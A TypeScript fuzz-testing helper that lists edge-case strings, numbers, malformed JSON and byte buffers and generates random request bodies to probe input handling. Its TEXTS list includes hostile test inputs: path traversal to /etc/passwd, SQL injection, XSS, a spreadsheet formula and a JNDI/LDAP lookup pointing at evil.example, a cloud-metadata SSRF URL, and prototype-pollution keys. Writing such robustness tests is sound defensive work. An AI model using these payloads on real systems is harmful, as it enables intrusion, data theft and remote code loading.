import type { Chance } from './chance.ts';

/** Texts that break careless code: separators of keys, names of prototypes, odd Unicode, injections, numbers and times that are none. */
export const TEXTS: readonly string[] = [
  '',
  ' ',
  '#',
  'prg_#01kp3q8z4m7yc2hd',
  '..',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '\u0000',
  'a\u0000b',
  'line\nbreak',
  'tab\tand\rreturn',
  '\u202egnirts',
  '\ufeff',
  'half a pair \ud800',
  '\u2028',
  '👩‍👩‍👧‍👦',
  'é'.repeat(200),
  'İıſK',
  'x'.repeat(5_000),
  "' OR 1=1 --",
  '<script>alert(1)</script>',
  '=HYPERLINK("http://evil.example")',
  '+cmd|calc',
  '$\u007bjndi:ldap://evil.example/a}',
  '{{7*7}}',
  '%00',
  '%ff%fe',
  '%E0%A4%A',
  '{}',
  '[]',
  '1,1',
  '-1',
  '0.5',
  '1e308',
  '9007199254740993',
  '0x10',
  '２０２６',
  'https://evil.example/',
  'https://shop.example@evil.example/',
  'https://shop.example.evil.example/',
  'https:\\\\evil.example',
  '//evil.example',
  'javascript:alert(1)',
  'http://169.254.169.254/latest/meta-data/',
  'http://[::1]/',
  'data:text/html,hi',
  '2026-02-30',
  '2026-13-01T00:00:00Z',
  '0000-01-01',
  '9999-12-31',
  '9999-12-31T23:59:59.999Z',
  '-000001-01-01T00:00:00Z',
  '+275760-09-13T00:00:00Z',
  '2026-03-29T02:30:00+99:00',
  '2026-03-29T23:59:60Z',
  'Europe/Atlantis',
  'XXX',
  'ZZZ',
  'brd_aaaaaa',
  'trb_aaaaaa_aaaa',
];

export const NUMBERS: readonly number[] = [
  0,
  -0,
  -1,
  1,
  0.1,
  1.5,
  2 ** 31,
  -(2 ** 31) - 1,
  2 ** 53,
  2 ** 53 + 2,
  Number.MAX_SAFE_INTEGER,
  Number.MIN_SAFE_INTEGER,
  1e12,
  1e12 + 1,
  1e21,
  1e300,
  5e-324,
  10_000,
  10_001,
];

/** JSON written out, since some of it no `JSON.stringify` would write. */
const RAW_TEXTS: readonly string[] = [
  '',
  'null',
  '[]',
  '{}',
  '42',
  '"text"',
  '{"a":',
  '{"a":1,"a":2}',
  '{"__proto__":{"role":"owner"}}',
  '{"constructor":{"prototype":{"x":1}}}',
  '{"a":"\\ud800"}',
  '{"a":1e999}',
  '{"a":123456789012345678901234567890}',
  '{"a":-0}',
  '{"a":NaN}',
  "{'a':1}",
  '{"a":1}}',
  '\ufeff{}',
  '{"a":"\u0000"}',
  `${'{"a":'.repeat(300)}1${'}'.repeat(300)}`,
  `${'['.repeat(5_000)}`,
  `{"name":"${'a'.repeat(300_000)}"}`,
  `[${'0,'.repeat(60_000)}0]`,
  `{${Array.from({ length: 3_000 }, (_, i) => `"k${i}":${i}`).join(',')}}`,
];

const BYTES: readonly Buffer[] = [
  Buffer.from([0xff, 0xfe, 0x7b, 0x7d]),
  Buffer.from([0x7b, 0x22, 0xc3, 0x28, 0x22, 0x3a, 0x31, 0x7d]),
  Buffer.from([0x7b, 0x22, 0xed, 0xa0, 0x80, 0x22, 0x3a, 0x31, 0x7d]),
  Buffer.from([0x1f, 0x8b, 0x08, 0x00]),
  Buffer.alloc(1_000, 0),
];

/** A value of any kind, nested a little. */
export function anyValue(chance: Chance, depth = 0): unknown {
  const kind = chance.below(depth > 2 ? 5 : 8);
  if (kind === 0) return chance.pick(TEXTS);
  if (kind === 1) return chance.pick(NUMBERS);
  if (kind === 2) return chance.pick([true, false, null]);
  if (kind === 3) return noise(chance, chance.below(60));
  if (kind === 4) return chance.below(100_000);
  const inner = () => anyValue(chance, depth + 1);
  if (kind === 5) return Array.from({ length: chance.below(5) }, inner);
  return Object.fromEntries(
    Array.from({ length: chance.below(5) }, () => [
      chance.is(0.3) ? chance.pick(TEXTS).slice(0, 40) : noise(chance, 6),
      inner(),
    ]),
  );
}

/** Random characters, mostly of plain text, some from anywhere in Unicode but halves of pairs. */
export function noise(chance: Chance, length: number): string {
  const plain = 'abcdefghijklmnopqrstuvwxyz0123456789_-. /:#%&=+@';
  return Array.from({ length }, () => {
    if (chance.is(0.9)) return plain[chance.below(plain.length)];
    const point = chance.below(0xffff);
    return String.fromCodePoint(point >= 0xd800 && point < 0xe000 ? 0xfffd : point);
  }).join('');
}

/** A body that was never meant to be read. */
export const rawBody = (chance: Chance): Buffer => {
  if (chance.is(0.2)) return chance.pick(BYTES);
  return Buffer.from(chance.is(0.7) ? chance.pick(RAW_TEXTS) : JSON.stringify(anyValue(chance)));
};
